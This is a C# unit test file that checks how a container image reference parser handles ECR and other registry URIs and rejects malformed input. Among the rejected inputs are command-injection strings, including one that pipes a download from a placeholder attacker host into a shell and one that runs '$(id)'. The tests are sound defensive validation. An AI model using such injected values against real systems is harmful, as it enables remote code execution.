using RemediationTools.Core.Deployment;

namespace RemediationTools.Core.Tests.Deployment;

public sealed class WorkerImageReferenceTests
{
    [Theory]
    [InlineData("111122223333.dkr.ecr.eu-west-1.amazonaws.com/remediation-worker:0.1.0", "111122223333.dkr.ecr.eu-west-1.amazonaws.com", "eu-west-1", "111122223333")]
    [InlineData("111122223333.dkr.ecr.cn-north-1.amazonaws.com.cn/team/worker@sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef", "111122223333.dkr.ecr.cn-north-1.amazonaws.com.cn", "cn-north-1", "111122223333")]
    public void Parse_EcrImage_RegistryAndRegion(string value, string registry, string region, string account)
    {
        var image = WorkerImageReference.Parse(value);

        Assert.True(image.IsEcr);
        Assert.Equal(registry, image.Registry);
        Assert.Equal(region, image.EcrRegion);
        Assert.Equal(account, image.EcrAccount);
    }

    [Theory]
    [InlineData("remediation-worker:0.1.0", null)]
    [InlineData("ghcr.io/example/remediation-worker:latest", "ghcr.io")]
    [InlineData("localhost:5000/remediation-worker", "localhost:5000")]
    [InlineData("example/remediation-worker", null)]
    public void Parse_OtherRegistry_NotEcr(string value, string? registry)
    {
        var image = WorkerImageReference.Parse(value);

        Assert.False(image.IsEcr);
        Assert.Equal(registry, image.Registry);
        Assert.Equal(value, image.Value);
    }

    [Theory]
    [InlineData("")]
    [InlineData("Remediation-Worker:1")]
    [InlineData("remediation-worker:1; curl evil.example | sh")]
    [InlineData("remediation-worker:$(id)")]
    [InlineData("remediation worker")]
    [InlineData("remediation-worker:")]
    public void Parse_NotAnImageReference_ArgumentExceptionNamingIt(string value)
    {
        var error = Assert.Throws<ArgumentException>(() => WorkerImageReference.Parse(value));

        Assert.Contains("-ImageUri '" + value + "'", error.Message, StringComparison.Ordinal);
    }
}
